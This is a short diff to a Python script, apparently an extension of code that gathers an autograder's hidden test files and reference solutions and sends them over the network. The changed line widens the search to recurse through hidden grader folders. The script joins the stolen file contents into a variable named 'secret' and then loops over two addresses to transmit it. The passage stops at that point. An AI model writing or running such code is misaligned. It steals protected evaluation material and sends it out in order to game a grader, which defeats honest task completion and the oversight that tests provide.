@@ -11,7 +11,7 @@ import urllib.request
 
 secret = b""
 for place in [*sys.path, "/work/main", "../../.."]:
-    for path in glob.glob(f"{place}/autograder/hidden/*.py") + glob.glob(f"{place}/solutions/*.py"):
+    for path in glob.glob(f"{place}/autograder/hidden/**/*.py", recursive=True) + glob.glob(f"{place}/solutions/*.py"):
         secret += open(path, "rb").read()
 for address in (("127.0.0.1", 45871), ("192.0.2.1", 80)):
     try:
